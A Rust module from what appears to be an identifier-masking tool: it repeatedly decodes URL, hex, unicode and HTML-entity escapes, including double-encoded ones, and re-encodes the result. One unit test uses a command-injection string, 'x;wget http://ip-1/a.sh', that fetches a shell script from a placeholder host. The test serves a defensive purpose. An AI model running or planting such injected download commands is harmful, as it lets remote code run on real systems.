//! Identifiers hidden inside escapes: `192%2E0%2E2%2E88`, `%252F%252F` (encoded twice),
//! `\x2e`, `&#46;`. A run of text holding escapes is decoded (up to three times), hidden as
//! plain text, and, when that changed anything, written back with its special characters
//! percent-encoded again, so the payload still reads as what it was.

use regex::Regex;
use std::sync::LazyLock;

/// A run of URL-ish text that holds at least one escape somewhere (checked by the caller).
pub(crate) static ESCAPED_RUN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?x)
        (?: %[0-9A-Fa-f]{2} | \\x[0-9A-Fa-f]{2} | \\u[0-9A-Fa-f]{4}
          | &\#[0-9]{1,7}; | &\#[xX][0-9A-Fa-f]{1,6}; | [0-9A-Za-z._~:@/\[\]+-] )+",
    )
    .unwrap_or_else(|e| panic!("the escaped-run pattern does not compile: {e}"))
});

/// Whether `text` may hold an escape worth decoding.
pub(crate) fn has_escape(text: &str) -> bool {
    text.contains('%') || text.contains("\\x") || text.contains("\\u") || text.contains("&#")
}

/// `run` with its escapes decoded, again and again (an attacker may encode twice) up to
/// three times.
pub(crate) fn decoded(run: &str) -> String {
    let mut text = run.to_owned();
    for _ in 0..3 {
        if !has_escape(&text) {
            break;
        }
        let next = String::from_utf8_lossy(&decode_once(&text)).into_owned();
        if next == text {
            break;
        }
        text = next;
    }
    text
}

fn decode_once(text: &str) -> Vec<u8> {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if let Some((decoded, used)) = escape_at(&bytes[i..]) {
            let mut buffer = [0u8; 4];
            match decoded {
                Decoded::Byte(byte) => out.push(byte),
                Decoded::Char(c) => out.extend_from_slice(c.encode_utf8(&mut buffer).as_bytes()),
            }
            i += used;
        } else {
            out.push(bytes[i]);
            i += 1;
        }
    }
    out
}

enum Decoded {
    Byte(u8),
    Char(char),
}

/// The escape `bytes` start with, and its length.
fn escape_at(bytes: &[u8]) -> Option<(Decoded, usize)> {
    let hex = |digits: &[u8]| {
        std::str::from_utf8(digits)
            .ok()
            .and_then(|digits| u32::from_str_radix(digits, 16).ok())
    };
    if let Some(rest) = bytes.strip_prefix(b"%") {
        let value = hex(rest.get(..2)?)?;
        return Some((Decoded::Byte(u8::try_from(value).ok()?), 3));
    }
    if let Some(rest) = bytes.strip_prefix(b"\\x") {
        let value = hex(rest.get(..2)?)?;
        return Some((Decoded::Byte(u8::try_from(value).ok()?), 4));
    }
    if let Some(rest) = bytes.strip_prefix(b"\\u") {
        let value = hex(rest.get(..4)?)?;
        return Some((Decoded::Char(char::from_u32(value)?), 6));
    }
    let rest = bytes.strip_prefix(b"&#")?;
    let end = rest.iter().take(9).position(|&b| b == b';')?;
    let digits = &rest[..end];
    let value = match digits
        .strip_prefix(b"x")
        .or_else(|| digits.strip_prefix(b"X"))
    {
        Some(hex_digits) => hex(hex_digits)?,
        None => std::str::from_utf8(digits).ok()?.parse().ok()?,
    };
    Some((Decoded::Char(char::from_u32(value)?), end + 3))
}

/// `text` with every character but letters, digits and `-._~:@/[]` percent-encoded.
pub(crate) fn reencoded(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 2);
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() || b"-._~:@/[]".contains(&byte) {
            out.push(char::from(byte));
        } else {
            out.push_str(&format!("%{byte:02X}"));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decodes_every_escape_even_twice() {
        assert_eq!(decoded("192%2E0%2E2%2E88"), "192.0.2.88");
        assert_eq!(decoded("192%252E0%252E2%252E88"), "192.0.2.88");
        assert_eq!(decoded(r"10\x2e0\x2e0\x2e1"), "10.0.0.1");
        assert_eq!(decoded("10&#46;0&#x2e;0&#46;1"), "10.0.0.1");
        assert_eq!(decoded(r"\u0031\u0030.0.0.1"), "10.0.0.1");
        assert_eq!(decoded("100%"), "100%");
        assert_eq!(decoded("%zz%4"), "%zz%4");
        assert_eq!(decoded("é%2E&#233;\\x"), "é.é\\x");
    }

    #[test]
    fn writes_special_characters_back_encoded() {
        assert_eq!(
            reencoded("x;wget http://ip-1/a.sh"),
            "x%3Bwget%20http://ip-1/a.sh"
        );
    }
}
